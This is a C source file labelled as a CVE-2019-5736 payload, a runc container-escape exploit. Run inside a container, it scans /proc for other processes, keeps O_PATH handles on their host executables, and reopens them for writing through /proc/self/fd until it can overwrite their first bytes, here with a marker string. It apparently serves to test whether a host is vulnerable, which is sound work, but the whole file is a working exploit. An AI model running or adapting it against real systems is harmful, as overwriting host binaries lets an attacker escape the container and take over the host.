#define _GNU_SOURCE
// CVE-2019-5736 payload. Runs inside a container for DURATION seconds: every process whose
// /proc/PID/exe is neither this program nor busybox gets its exe opened O_PATH (the attacker
// keeps a handle on a host binary); each handle is then reopened for writing through
// /proc/self/fd/N until that succeeds (the binary is no longer busy) or time runs out. A
// successful open writes a marker at offset 0. Output: one line per event.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 256

static int held[MAX_HELD];
static int held_pid[MAX_HELD];
static struct stat held_st[MAX_HELD];
static int nheld;

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int same_file(const struct stat* a, const struct stat* b) {
  return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

int main(int argc, char** argv) {
  double duration = argc > 1 ? atof(argv[1]) : 10;
  const char* ready = argc > 2 ? argv[2] : NULL;
  struct stat self, bb;
  stat("/proc/self/exe", &self);
  if (stat("/bin/busybox", &bb) != 0) memset(&bb, 0, sizeof bb);
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (ready) close(open(ready, O_CREAT | O_WRONLY, 0644));
  printf("grabber ready\n");
  static char seen[1 << 22];
  int writes = 0;
  double end = now() + duration;
  while (now() < end) {
    DIR* d = opendir("/proc");
    if (!d) { perror("opendir /proc"); return 2; }
    struct dirent* e;
    while ((e = readdir(d)) && nheld < MAX_HELD) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == getpid() || pid >= (int)sizeof seen || seen[pid]) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_PATH | O_CLOEXEC);
      if (fd < 0) continue;  // EACCES: not ptrace-accessible; ENOENT: kernel thread / gone
      struct stat st;
      if (fstat(fd, &st) != 0 || same_file(&st, &self) || same_file(&st, &bb)) {
        close(fd);
        seen[pid] = 1;
        continue;
      }
      char target[256] = "";
      ssize_t n = readlink(path, target, sizeof target - 1);
      if (n > 0) target[n] = 0;
      printf("GRABBED pid %d exe %s (dev %lu ino %lu)\n", pid, target,
             (unsigned long)st.st_dev, (unsigned long)st.st_ino);
      seen[pid] = 1;
      held[nheld] = fd;
      held_st[nheld] = st;
      held_pid[nheld++] = pid;
    }
    closedir(d);
    for (int i = 0; i < nheld; ++i) {
      if (held[i] < 0) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      int w = open(path, O_WRONLY | O_CLOEXEC);
      if (w < 0) {
        if (errno != ETXTBSY) {
          printf("reopen exe of pid %d for writing: %s\n", held_pid[i], strerror(errno));
          close(held[i]);
          held[i] = -1;
        }
        continue;
      }
      const char marker[] = "PWNED-CVE-2019-5736";
      if (pwrite(w, marker, sizeof marker - 1, 0) == (ssize_t)(sizeof marker - 1)) {
        printf("WROTE through exe of pid %d (dev %lu ino %lu)\n", held_pid[i],
               (unsigned long)held_st[i].st_dev, (unsigned long)held_st[i].st_ino);
        ++writes;
      }
      close(w);
      close(held[i]);
      held[i] = -1;
    }
  }
  printf("grabber done: %d handles, %d writes\n", nheld, writes);
  return writes ? 1 : 0;
}
